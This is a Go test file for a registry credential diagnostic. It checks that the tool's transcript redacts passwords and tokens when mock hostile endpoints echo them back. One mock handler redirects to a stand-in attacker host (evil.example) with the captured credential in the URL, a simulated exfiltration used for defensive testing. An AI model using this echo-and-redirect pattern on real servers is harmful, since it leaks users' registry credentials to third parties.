package probe

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// TestHostileEchoes: whatever a token endpoint or /v2/ sends back, in its
// body or its headers, the transcript (what `docker -D acrdoctor check`
// prints) holds neither the stored secret, in any form it was sent in,
// nor a token the endpoint issued, JWT or not.
func TestHostileEchoes(t *testing.T) {
	const (
		user     = "myreg"
		password = `PW-s3cret/+&="x`
		identity = "opaque-identity-IDTOKEN99"
	)
	issued := `{"refresh_token":"RTSECRET77","access_token":"ATSECRET88","token":"TKSECRET66","id_token":"IDSECRET55",` +
		`"client_secret":"CSSECRET44","password":"PWFIELD33","secret":"SCSECRET22","expires_in":3600}`
	// echo is everything the request carried that is secret, as sent.
	echo := func(r *http.Request) string {
		b, _ := base64.StdEncoding.DecodeString(strings.TrimPrefix(r.Header.Get("Authorization"), "Basic "))
		return fmt.Sprintf("auth=%s decoded=%s form=%s refresh=%s", r.Header.Get("Authorization"), b, r.PostForm.Encode(), r.PostForm.Get("refresh_token"))
	}
	tests := []struct {
		name   string
		secret Secret
		token  http.HandlerFunc // the realm
		v2     http.HandlerFunc // /v2/ with a bearer token
	}{
		{name: "tokens that are no JWT", token: func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, issued)
		}},
		{name: "401 echoing the Basic credential", token: func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprintf(w, `{"errors":[{"code":"UNAUTHORIZED","message":%q}]}`, echo(r))
		}},
		{name: "echoes encoded", token: func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusUnauthorized)
			s := echo(r)
			fmt.Fprintf(w, "%s %s %s %q", url.QueryEscape(s), url.PathEscape(s), base64.RawURLEncoding.EncodeToString([]byte(user+":"+password)), s)
		}},
		{name: "echoes in headers", token: func(w http.ResponseWriter, r *http.Request) {
			s := echo(r)
			w.Header().Set("Www-Authenticate", fmt.Sprintf(`Bearer realm="x",error=%q`, s))
			w.Header().Set("Location", "https://"+testHost+"/?p="+url.QueryEscape(s))
			w.Header().Set("Server", s)
			w.WriteHeader(http.StatusUnauthorized)
		}},
		{name: "redirect elsewhere with the credential", token: func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/?p="+url.QueryEscape(echo(r)), http.StatusTemporaryRedirect)
		}},
		{name: "issued tokens echoed by /v2/", token: func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, issued)
		}, v2: func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Server", r.Header.Get("Authorization"))
			fmt.Fprintf(w, "you are %s; %s", r.Header.Get("Authorization"), issued)
		}},
		{name: "identity token echoed", secret: Secret{Username: "00000000-0000-0000-0000-000000000000", IdentityToken: identity},
			token: func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Server", echo(r))
				w.WriteHeader(http.StatusUnauthorized)
				fmt.Fprintf(w, "%s %s", echo(r), url.QueryEscape(echo(r)))
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sec := tt.secret
			if sec.empty() {
				sec = Secret{Username: user, Password: password}
			}
			h := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
				switch {
				case r.URL.Path == "/v2/" && r.Header.Get("Authorization") == "":
					challenge401(testHost)(w, r)
				case r.URL.Path == "/v2/" && tt.v2 != nil:
					tt.v2(w, r)
				case r.URL.Path == "/v2/":
					w.WriteHeader(http.StatusOK)
				default:
					tt.token(w, r)
				}
			})
			tr := Run(context.Background(), testHost, basicCred(), sec, h.options())
			if tr.Exchange(TokenRequest) == nil {
				t.Fatalf("no token request: %+v", tr.Exchanges)
			}
			var secrets []string
			for _, s := range []string{sec.Password, sec.IdentityToken, base64.StdEncoding.EncodeToString([]byte(sec.Username + ":" + sec.Password)),
				"RTSECRET77", "ATSECRET88", "TKSECRET66", "IDSECRET55", "CSSECRET44", "PWFIELD33", "SCSECRET22"} {
				if s != "" {
					secrets = append(secrets, s, url.QueryEscape(s), url.PathEscape(s))
				}
			}
			for _, ex := range append(tr.Exchanges, tr.Unused...) {
				fields := map[string]string{"URL": ex.URL, "Body": ex.Body, "Err": ex.Err, "Refused": ex.Refused}
				for k, v := range ex.Header {
					fields["header "+k] = strings.Join(v, " ")
				}
				for where, v := range fields {
					for _, s := range secrets {
						if strings.Contains(v, s) {
							t.Errorf("%s %s holds %q: %q", ex.Purpose, where, s, v)
						}
					}
				}
			}
		})
	}
}

// TestSwappedAdmin: -u and -p swapped for the admin user, so the password
// is the registry's name and the username its admin password. The name
// stays in the transcript's host names, which the classifier reads, and
// the admin password leaves it, as the account and as echoed back.
func TestSwappedAdmin(t *testing.T) {
	const admin = "Ee8F7nTDN0pG3yXmfd1vC+Y8Bt5hWxjLk4aQ2sR9uQ+ACRC2bPzt"
	name, _, _ := strings.Cut(testHost, ".")
	h := newHostile(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v2/" {
			challenge401(testHost)(w, r)
			return
		}
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprintf(w, `{"errors":[{"code":"UNAUTHORIZED","message":"no account %s"}]}`, r.URL.Query().Get("account"))
	})
	tr := Run(context.Background(), testHost, basicCred(), Secret{Username: admin, Password: name}, h.options())
	ping, tok := tr.Exchange(Ping), tr.Exchange(TokenRequest)
	if ping == nil || tok == nil {
		t.Fatalf("exchanges: %+v", tr.Exchanges)
	}
	if realm := ping.Header.Get("Www-Authenticate"); !strings.Contains(realm, `realm="https://`+testHost+`/oauth2/token"`) {
		t.Errorf("the challenge lost the registry's name: %q", realm)
	}
	for _, ex := range append(tr.Exchanges, tr.Unused...) {
		for _, v := range []string{ex.URL, ex.Body, ex.Err} {
			if strings.Contains(v, admin) || strings.Contains(v, url.QueryEscape(admin)) {
				t.Errorf("%s holds the admin password: %q", ex.Purpose, v)
			}
		}
	}
	if !strings.Contains(tok.URL, "https://"+testHost+"/") {
		t.Errorf("token URL %q", tok.URL)
	}
}
